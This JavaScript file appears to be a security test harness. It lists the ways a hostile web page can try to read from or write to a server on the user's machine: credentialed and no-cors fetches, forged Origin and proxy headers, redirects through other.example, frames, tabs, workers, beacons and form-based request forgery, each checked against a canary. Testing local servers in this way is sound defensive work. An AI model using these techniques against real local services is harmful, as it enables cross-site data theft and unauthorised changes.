/*
 * What a hostile page can try against a server on this machine. A trick is given one target,
 * { method, url, path, json, fields }, and returns what it could read of the answer: nothing, if all is well.
 *
 * READS ask with GET, WRITES with whatever changes something. Some tell nobody how they went: no event says that a
 * link was prefetched, a beacon sent, or a picture fetched by a style sheet.
 */

'use strict';

const GIVE_UP_SECONDS = 4; // of what tells nobody that it failed
const OTHER_HOSTILE_SITE = location.protocol === 'https:' ? 'https://other.example' : 'http://other.example';
const EXTENSION = 'chrome-extension://abcdefghijklmnopabcdefghijklmnop';

const giveUp = () => new Promise((resolve) => setTimeout(resolve, GIVE_UP_SECONDS * 1000));
const form = (fields) => fields.reduce((data, field) => (data.append(...field), data), new FormData());
const redirected = (url) => `${OTHER_HOSTILE_SITE}/hostile/redirect?to=${encodeURIComponent(url)}`;

/** What can be read of an answer to fetch(). */
async function read(response) {
  const answer = await response;
  return { ok: answer.ok, text: answer.type === 'opaque' ? '' : await answer.text() };
}

/** Puts an element into the page until it has loaded or failed, and returns what `look` makes of it then. */
async function show(name, properties, look = () => undefined, loads = 1) {
  const element = Object.assign(document.createElement(name), properties);
  const settled = new Promise((resolve) => {
    const loaded = () => --loads === 0 && resolve(true);
    element.addEventListener('load', loaded);
    element.addEventListener('loadedmetadata', loaded);
    element.addEventListener('error', () => resolve(false));
  });
  document.body.append(element);
  const loaded = await Promise.race([settled, giveUp()]);
  const seen = loaded ? look(element) : undefined;
  element.remove();
  return seen;
}

function insideOf(element) {
  const text = element.contentDocument?.documentElement?.textContent ?? '';
  return { ok: false, text };
}

/** Sends a form into a frame, and looks into that. */
async function submit({ url, fields }, { enctype = 'application/x-www-form-urlencoded', method = 'post', rel = '' } = {}) {
  const frame = Object.assign(document.createElement('iframe'), { name: `into-${Math.random()}` });
  document.body.append(frame); // that loads about:blank, at once
  const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
  sendForm({ url, fields }, { enctype, method, rel, target: frame.name });
  await Promise.race([loaded, giveUp()]);
  const seen = insideOf(frame);
  frame.remove();
  return seen;
}

function sendForm({ url, fields }, properties) {
  const element = Object.assign(document.createElement('form'), { action: url, method: 'post', ...properties });
  for (const [name, value] of fields) {
    element.append(Object.assign(document.createElement('textarea'), { name, value }));
  }
  document.body.append(element);
  element.submit();
  element.remove();
}

/** Opens a tab, and tries to look into it once it is somewhere else. */
async function openTab(url) {
  const tab = open(url);
  const deadline = Date.now() + GIVE_UP_SECONDS * 1000;
  while (tab && !tab.closed && Date.now() < deadline) {
    try {
      const text = tab.document.documentElement.textContent;
      if (tab.location.href !== 'about:blank') return { ok: false, text };
    } catch {
      return undefined; // it is another origin's now
    }
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
  return undefined;
}

/** Runs a fetch in a worker made of text. */
function inWorker(url, options) {
  const work = `fetch(${JSON.stringify(url)}, ${JSON.stringify(options)})
    .then(async (answer) => postMessage({ ok: answer.ok, text: answer.type === 'opaque' ? '' : await answer.text() }))
    .catch((error) => postMessage({ ok: false, text: '', error: String(error) }));`;
  const worker = new Worker(`data:text/javascript,${encodeURIComponent(work)}`);
  const answered = new Promise((resolve, reject) => {
    worker.onmessage = ({ data }) => resolve(data);
    worker.onerror = () => reject(new Error('no worker'));
  });
  return Promise.race([answered, giveUp()]).finally(() => worker.terminate());
}

/** Runs a fetch in the hostile site's own service worker. */
async function inServiceWorker(url, options) {
  const registration = await navigator.serviceWorker.register('/hostile/service-worker.js');
  const worker = registration.active ?? registration.waiting ?? registration.installing;
  const channel = new MessageChannel();
  const answered = new Promise((resolve) => (channel.port1.onmessage = ({ data }) => resolve(data)));
  worker.postMessage({ url, options }, [channel.port2]);
  return Promise.race([answered, giveUp()]);
}

function byXhr(target, { method = target.method, body, headers = {} } = {}) {
  const request = new XMLHttpRequest();
  request.open(method, target.url);
  request.withCredentials = true;
  for (const [name, value] of Object.entries(headers)) request.setRequestHeader(name, value);
  return new Promise((resolve, reject) => {
    request.onload = () => resolve({ ok: request.status < 400, text: request.responseText });
    request.onerror = () => reject(new Error('refused'));
    request.send(body);
  });
}

const READS = {
  'fetch': ({ url }) => read(fetch(url)),
  'fetch with cookies': ({ url }) => read(fetch(url, { credentials: 'include' })),
  'fetch without cors': ({ url }) => read(fetch(url, { mode: 'no-cors', credentials: 'include' })),
  'fetch as if same-origin': ({ url }) => read(fetch(url, { mode: 'same-origin' })),
  'fetch without a referrer': ({ url }) => read(fetch(url, { mode: 'no-cors', referrerPolicy: 'no-referrer' })),
  'fetch that forges what browsers set': ({ url }) =>
    read(fetch(url, { headers: { Origin: EXTENSION, Host: 'localhost', 'Sec-Fetch-Site': 'none', Referer: url } })),
  'fetch that calls itself an extension': ({ url }) =>
    read(fetch(url, { headers: { 'X-Extension-Id': EXTENSION.slice(19), 'X-Worker-Id': 'hostile' } })),
  'fetch that calls itself a proxy': ({ url }) =>
    read(fetch(url, { headers: { 'X-Forwarded-Host': 'localhost', 'X-Forwarded-For': '127.0.0.1' } })),
  'fetch that names the address space': ({ url }) => read(fetch(url, { targetAddressSpace: 'loopback' })),
  'fetch after a redirect': ({ url }) => read(fetch(redirected(url))),
  'fetch of only the head': ({ url }) => read(fetch(url, { method: 'HEAD', mode: 'no-cors' })),
  'XMLHttpRequest': (target) => byXhr(target),
  'EventSource': ({ url }) =>
    new Promise((resolve, reject) => {
      const source = new EventSource(url, { withCredentials: true });
      source.onopen = () => (source.close(), resolve({ ok: true, text: 'a stream of events' }));
      source.onerror = () => (source.close(), reject(new Error('refused')));
    }),
  'WebSocket': ({ url }) =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(url.replace(/^http/, 'ws'));
      socket.onopen = () => (socket.close(), resolve({ ok: true, text: 'a socket' }));
      socket.onerror = () => reject(new Error('refused'));
    }),
  'fetch in a worker': ({ url }) => inWorker(url, {}),
  'fetch in a service worker': ({ url }) => inServiceWorker(url, { credentials: 'include' }),
  'image': ({ url }) =>
    show('img', { src: url }, ({ naturalWidth }) => ({ ok: true, text: `an image of ${naturalWidth} pixels` })),
  'script': ({ url }) => show('script', { src: url }, () => ({ ok: true, text: 'it was run' })),
  'module': async ({ url }) => ({ ok: true, text: Object.keys(await import(url)).join() }),
  'stylesheet': ({ url }) =>
    show('link', { rel: 'stylesheet', href: url }, ({ sheet }) => ({ ok: true, text: `${sheet.cssRules.length} rules` })),
  'prefetch': ({ url }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: url }));
  },
  'preload': ({ url }) => show('link', { rel: 'preload', as: 'fetch', crossOrigin: 'use-credentials', href: url }),
  'speculation rules': ({ url }) => {
    const rule = [{ source: 'list', urls: [url], eagerness: 'immediate' }];
    const rules = document.createElement('script');
    Object.assign(rules, { type: 'speculationrules', text: JSON.stringify({ prefetch: rule, prerender: rule }) });
    document.head.append(rules);
  },
  'frame': ({ url }) => show('iframe', { src: url }, insideOf),
  'frame without credentials': ({ url }) => show('iframe', { credentialless: true, src: url }, insideOf),
  'frame after a redirect': ({ url }) => show('iframe', { src: redirected(url) }, insideOf),
  'frame that refreshes itself': ({ url }) =>
    show('iframe', { srcdoc: `<meta http-equiv="refresh" content="0; url=${url}">` }, insideOf, 2),
  'object': ({ url }) => show('object', { type: 'text/html', data: url }, insideOf),
  'embed': ({ url }) => show('embed', { type: 'text/html', src: url }, (embed) => ({ ok: false, text: embed.getSVGDocument() ? 'inside' : '' })),
  'video': ({ url }) => show('video', { src: url, preload: 'auto' }, () => ({ ok: true, text: 'a video' })),
  'url in a style': ({ url }) => {
    const style = `width: 9px; height: 9px; background: url("${url}"); border-image-source: url("${url}")`;
    document.body.append(Object.assign(document.createElement('div'), { style }));
  },
  'font': ({ url }) =>
    new FontFace('stolen', `url(${url})`).load().then(() => ({ ok: true, text: 'a font' })),
  'form in a frame': ({ url }) => submit({ url, fields: [] }, { method: 'get' }),
  'tab': ({ url }) => openTab(url),
  'tab after a redirect': ({ url }) => openTab(redirected(url)),
  'form in a tab': ({ url }) => void sendForm({ url, fields: [] }, { method: 'get', target: '_blank' }),
};

const json = { 'Content-Type': 'application/json' };
const WRITES = {
  'fetch of JSON': ({ method, url, json: body }) => read(fetch(url, { method, headers: json, body, credentials: 'include' })),
  'fetch of JSON without cors': ({ method, url, json: body }) =>
    read(fetch(url, { method: method === 'PATCH' ? 'POST' : method, mode: 'no-cors', headers: json, body: new Blob([body], { type: 'application/json' }) })),
  'fetch of JSON as if same-origin': ({ method, url, json: body }) => read(fetch(url, { method, mode: 'same-origin', headers: json, body })),
  'fetch of plain text': ({ url, json: body }) =>
    read(fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'Content-Type': 'text/plain' }, body })),
  'fetch of text that is JSON in brackets': ({ url, json: body }) =>
    read(fetch(url, { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain; application/json' }, body })),
  'fetch of fields': ({ url, fields }) =>
    read(fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', body: new URLSearchParams(fields) })),
  'fetch of parts': ({ url, fields }) => read(fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', body: form(fields) })),
  'fetch of bytes': ({ url, json: body }) =>
    read(fetch(url, { method: 'POST', mode: 'no-cors', body: new TextEncoder().encode(body) })),
  'fetch of nothing': ({ url }) => read(fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include' })),
  'fetch that outlives the page': ({ url, fields }) =>
    read(fetch(url, { method: 'POST', mode: 'no-cors', keepalive: true, body: new URLSearchParams(fields) })),
  'fetch that overrides the method': ({ method, url, json: body }) =>
    read(fetch(`${url}?_method=${method}`, { method: 'POST', headers: { ...json, 'X-HTTP-Method-Override': method }, body })),
  'fetch that overrides the method in its fields': ({ method, url, fields }) =>
    read(fetch(url, { method: 'POST', mode: 'no-cors', body: new URLSearchParams([...fields, ['_method', method]]) })),
  'fetch of JSON after a redirect': ({ method, url, json: body }) => read(fetch(redirected(url), { method, headers: json, body })),
  'fetch of plain text after a redirect': ({ url, json: body }) => read(fetch(redirected(url), { method: 'POST', mode: 'no-cors', body })),
  'XMLHttpRequest of JSON': (target) => byXhr(target, { body: target.json, headers: json }),
  'XMLHttpRequest of plain text': (target) => byXhr(target, { method: 'POST', body: target.json }),
  'fetch in a worker': ({ method, url, json: body }) => inWorker(url, { method, headers: json, body }),
  'fetch of text in a service worker': ({ url, json: body }) => inServiceWorker(url, { method: 'POST', mode: 'no-cors', body }),
  'fetch later': ({ url, json: body }) => void fetchLater(url, { method: 'POST', body, activateAfter: 0 }),
  'beacon of text': ({ url, json: body }) => void navigator.sendBeacon(url, body),
  'beacon of JSON': ({ url, json: body }) => void navigator.sendBeacon(url, new Blob([body], { type: 'application/json' })),
  'beacon of fields': ({ url, fields }) => void navigator.sendBeacon(url, new URLSearchParams(fields)),
  'beacon of parts': ({ url, fields }) => void navigator.sendBeacon(url, form(fields)),
  'ping of a link': ({ url }) => {
    const link = Object.assign(document.createElement('a'), { href: '#', ping: url });
    document.body.append(link);
    link.click();
  },
  'report of a broken policy': ({ url }) => show('iframe', { src: `${OTHER_HOSTILE_SITE}/hostile/report?to=${encodeURIComponent(url)}` }),
  'form of fields in a frame': (target) => submit(target),
  'form of parts in a frame': (target) => submit(target, { enctype: 'multipart/form-data' }),
  'form of text in a frame': (target) => submit(target, { enctype: 'text/plain' }),
  'form of fields in a frame, without a referrer': (target) => submit(target, { rel: 'noreferrer' }),
  'form of fields in a tab': (target) => void sendForm(target, { target: '_blank', rel: 'opener' }),
  'form of text in a tab': (target) => void sendForm(target, { target: '_blank', enctype: 'text/plain' }),
};

/** Tries one trick on all targets at once, and says of each what was read, and what went wrong. */
async function attack(kind, name, targets, canary) {
  const trick = { READS, WRITES }[kind][name];
  const tries = targets.map(async (target) => {
    try {
      const seen = await trick(target);
      const isLoot = seen && ((seen.ok && seen.text) || seen.text.includes(canary));
      return { read: isLoot ? seen.text.slice(0, 200) : '', error: '' };
    } catch (error) {
      return { read: '', error: String(error) };
    }
  });
  return Promise.all(tries);
}
